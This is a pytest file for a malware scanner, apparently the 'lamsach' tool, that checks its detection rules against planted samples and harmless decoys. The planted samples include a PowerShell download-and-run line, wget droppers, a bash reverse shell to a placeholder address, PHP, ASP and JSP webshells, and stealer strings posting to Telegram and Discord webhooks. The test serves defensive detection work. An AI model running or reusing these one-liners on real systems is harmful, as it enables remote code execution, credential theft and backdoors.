"""Each rule matches a harmless file made for it, and none matches a mere mention."""

from __future__ import annotations

import re
from importlib import resources
from pathlib import Path

import pytest

from lamsach.catalogue_vi import VIETNAMESE
from lamsach.errors import InputError, UnreadableError
from lamsach.scanner.findings import Level
from lamsach.scanner.labels import THREATS
from lamsach.scanner.rules import (
    FILES,
    MEMORY,
    FileSearcher,
    Searcher,
    compile_rules,
    content_of,
    rule_sources,
)

from .planted import EICAR, ELF, PE, WALLET, elf, pe

LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
PLANTED: dict[str, list[bytes]] = {
    "test_file_eicar": [EICAR, EICAR + b"\r\n"],
    "activator_program": [
        pe("KMSAuto Net", "/skms", "/ato"),
        pe("KMSpico", "SppExtComObj", "OSPPSVC", wide=True),
    ],
    "activation_script": [b"@echo off\r\nrem HWID Activation\r\nrem Ohook Activation\r\n"],
    "patcher_program": [pe("keygen", "uFMOD", "Generate serial")],
    "loader_batch_checks_antivirus": [
        b'Set Aa=x\r\ntasklist | findstr /I "wrsa.exe opssvc.exe" & findstr /I "avastui.exe avgui.exe" '
        b"\r\ncmd /c copy /b a+b c\r\n"
    ],
    "loader_autoit": [bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b" VirtualAlloc CallWindowProc"],
    "miner_xmrig": [elf("xmrig", "xmrig 6", "XMRig/6.0", "donate-level", "randomx", "stratum+tcp://")],
    "miner_settings": [
        b'{"donate-level": 1, "pools": [{"algo": "rx/0", "url": "pool.example:3333"}]}',
        b'{"url": "pool.example:3333", "user": "%s"}' % WALLET.encode(),
    ],
    "miner_script": [
        (
            b"#!/bin/sh\n# from hxxp://pool.example, 192.0.2[.]1 and 192.0.2[.]2\nwget http://192.0.2.1/x\n"
            b"chmod +x x\n./x -u %s\n"
        )
        % WALLET.encode(),
        b"#!/bin/sh\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n" % WALLET.encode(),
    ],
    "stealer_program": [
        pe("\\Login Data", "\\Local State", "wallet.dat", "\\tdata", "api.ipify.org"),
        pe(
            "\\Login Data",
            "encrypted_key",
            "\\Exodus\\",
            "recentservers.xml",
            "discord.com/api/webhooks",
            wide=True,
        ),
    ],
    "stealer_script": [
        b"win32crypt.CryptUnprotectData(x); open('Login Data'); post('https://api.telegram.org/bot1:x')"
    ],
    "dropper_powershell": [
        b"powershell.exe -w hidden -nop IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
    ],
    "dropper_windows_script": [
        b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\n'
        b'Set d = CreateObject("ADODB.Stream")\nd.SaveToFile p\ns.Run p'
    ],
    "dropper_shortcut": [LNK + "powershell -c iwr http://192.0.2.1/a".encode("utf-16-le")],
    "dropper_shell": [
        b"cd /tmp || cd /var/run\nwget http://192.0.2.1/mips; chmod 777 mips; ./mips; rm -rf mips\n"
    ],
    "dropper_shell_piped": [
        b"#!/bin/sh\necho Y3VybA== | base64 -d | sh\n",
        b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    ],
    "bot_mirai": [
        elf("/bin/busybox MIRAI"),
        elf("TSource Engine Query", "/dev/watchdog", "/proc/net/tcp", "listening tun0"),
    ],
    "webshell_php": [
        b'<?php eval($_POST["x"]); ?>',
        b"<html><?php @eval(base64_decode($_REQUEST['c']));",
        b"<?php eval(gzinflate(base64_decode('%s')));" % (b"A" * 220),
        b"<?php $_GET['a']($_POST['b']);",
    ],
    "webshell_asp": [
        b'<%eval request("pass")%>',
        b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
    ],
    "webshell_jsp": [b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
}
HARMLESS = {
    "page that explains": b"Never write eval($_POST['x']) in PHP. XMRig, KMSAuto and Mirai are malware.",
    "php page": b"<?php $name = htmlspecialchars($_POST['name']); echo system_name($name); ?>",
    "install script": b"#!/bin/sh\nset -e\ncurl -fsSLo tool https://tool.example/x\nchmod +x tool\n./tool\n",
    "backup script": b"#!/bin/sh\ncd /tmp || exit 1\ntar czf /backup/a.tgz /etc\n",
    "admin script": b"@echo off\r\ntasklist | findstr ekrn.exe\r\n",
    "corporate activation": (
        b"@echo off\r\ncscript slmgr.vbs /ipk AAAAA-AAAAA\r\ncscript slmgr.vbs /skms kms.unit.example\r\n"
        b"cscript slmgr.vbs /ato\r\n"
    ),
    "browser": pe("\\Login Data", "\\Web Data", "encrypted_key", "\\Local State", "logins.json"),
    "program": PE + b"hello",
    "elf": ELF + b"/proc/net/tcp /dev/watchdog",
    "settings": b'{"url": "https://unit.example", "user": "nam"}',
    "powershell": b"powershell -ExecutionPolicy Bypass -File update.ps1",
    "quoted test file": b"The file is:\n" + EICAR,
    "list of indicators": (
        b"Stealer: reads Login Data, Local State and leveldb, wallet files\n"
        b"sends to hxxps://api.telegram[.]org/bot1\nand https://api.telegram.org/bot2\n"
    ),
    "list of digests": b"wallet, Login Data\n%s\nhttps://webhook.site/x\n"
    % b"\n".join(b"%064x" % n for n in range(1, 5)),
    "report in prose": (
        b"The script copies Login Data and the wallet, then posts to https://api.telegram.org/bot and ends.\n"
    ),
    "yara rule": (
        b'rule stealer {\n strings:\n  $a = "Login Data"\n  $b = "Local State"\n'
        b'  $c = "https://api.telegram.org/bot"\n condition: all of them\n}\n'
    ),
    "sigma rule": (
        b"title: miner\nlogsource:\n product: linux\ndetection:\n s:\n  - wget \n  - pkill\n"
        b"  - stratum+tcp://pool.example:3333\n  - curl \n"
    ),
    "suricata rule": (
        b'alert tcp any any -> any any (msg:"wget curl pkill stratum+tcp://pool.example:3333"; sid:1; '
        b"rev:1;)\n"
    ),
    "wallets of miners": b"Miner. Wallet: %s\nIt uses wget and curl, chmod +x, pkill.\n" % WALLET.encode(),
    "stix bundle": (
        b'{"type": "bundle", "objects": [{"type": "indicator", "pattern": "Login Data Local State '
        b'https://api.telegram.org/bot1"}]}'
    ),
}


@pytest.fixture(scope="module")
def searcher() -> Searcher:
    return Searcher(compile_rules(rule_sources()), 10)


@pytest.mark.parametrize(
    ("rule", "content"), [(rule, content) for rule, some in PLANTED.items() for content in some]
)
def test_a_planted_file_is_found(searcher: Searcher, rule: str, content: bytes) -> None:
    assert rule in {hit.name for hit in searcher.search(content)}


def test_our_own_rules_and_tests_have_no_findings(searcher: Searcher) -> None:
    for path in (Path(__file__), *map(Path, map(str, resources.files("lamsach.scanner.rules").iterdir()))):
        if path.suffix not in (".yar", ".py"):
            continue
        assert not {hit.name for hit in searcher.search(path.read_bytes())} & {
            "stealer_script",
            "miner_script",
        }, path


def test_every_rule_has_a_planted_file() -> None:
    assert set(PLANTED) == {rule for name in FILES for rule in rules_of(name)}


@pytest.fixture(scope="module")
def by_kind() -> FileSearcher:
    return FileSearcher(rule_sources(), 10)


HEADS = (
    b"",
    b"MZ",
    PE,
    ELF,
    b"PK\x03\x04",
    b"{",
    b"#!/bin/sh\n",
    b"\x4c\0\0\0\x01\x14\x02\0",
    b"\x1f\x8b\x08",
    bytes.fromhex("A3484BBE986C4AA9994C530A86D6487D"),
)


@pytest.mark.parametrize(
    "content", [content for some in PLANTED.values() for content in some] + list(HARMLESS.values())
)
def test_the_rules_for_a_kind_find_what_all_rules_find(
    searcher: Searcher, by_kind: FileSearcher, content: bytes
) -> None:
    for head in HEADS:
        data = head + content
        kind = content_of(data, len(data))
        found = {hit.name for hit in by_kind.search(data, kind)}
        assert found == {hit.name for hit in searcher.search(data)}, (head, kind)


def test_large_ones_too(searcher: Searcher, by_kind: FileSearcher) -> None:
    filling = b"\n" * (4 << 20)
    for some in PLANTED.values():
        data = some[0] + filling
        found = {hit.name for hit in by_kind.search(data, content_of(data, len(data)))}
        assert found == {hit.name for hit in searcher.search(data)}


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_files_are_not_found(searcher: Searcher, name: str) -> None:
    assert searcher.search(HARMLESS[name]) == []


def rules_of(name: str) -> set[str]:
    text = resources.files("lamsach.scanner.rules").joinpath(name).read_text("utf-8")
    return set(re.findall(r"^rule (\w+)", text, re.MULTILINE))


def test_the_rules_do_not_match_their_own_text(searcher: Searcher) -> None:
    for path in Path("src/lamsach/scanner").rglob("*"):
        if path.is_file() and path.suffix in (".py", ".yar"):
            assert not searcher.search(path.read_bytes()), path


@pytest.mark.parametrize("name", [*FILES[1:], *MEMORY])
def test_the_metadata_of_a_rule_is_known(name: str) -> None:
    text = resources.files("lamsach.scanner.rules").joinpath(name).read_text("utf-8")
    for level, threat, about in re.findall(r'level = "(\w+)" threat = "(\w+)" about = "([^"]+)"', text):
        assert level in set(Level)
        assert threat in THREATS
        assert about in VIETNAMESE
    assert len(re.findall(r"^  meta:", text, re.MULTILINE)) == len(rules_of(name))


def test_given_rules_are_searched_for(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text(
        'rule campaign { meta: description = "d" strings: $a = "lamsach-marker" condition: $a }'
    )
    (tmp_path / "b.yara").write_text("rule other { condition: false }")
    searcher = Searcher(compile_rules(rule_sources([str(tmp_path)])), 10)
    (hit,) = searcher.search(b"x lamsach-marker x")
    assert (hit.name, hit.level, hit.own, hit.about) == ("campaign", Level.SUSPICIOUS, False, "d")


@pytest.mark.parametrize(
    "text", ["rule x {", 'include "/etc/passwd"', "rule a { condition: undefined_thing }"]
)
def test_wrong_rules_are_reported(tmp_path: Path, text: str) -> None:
    (tmp_path / "a.yar").write_text(text)
    with pytest.raises(InputError, match="rules"):
        compile_rules(rule_sources([str(tmp_path / "a.yar")]))


def test_rules_that_cannot_be_read(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_bytes(b"\xff\xfe")
    for name in ("a.yar", "none.yar"):
        with pytest.raises(UnreadableError):
            rule_sources([str(tmp_path / name)])
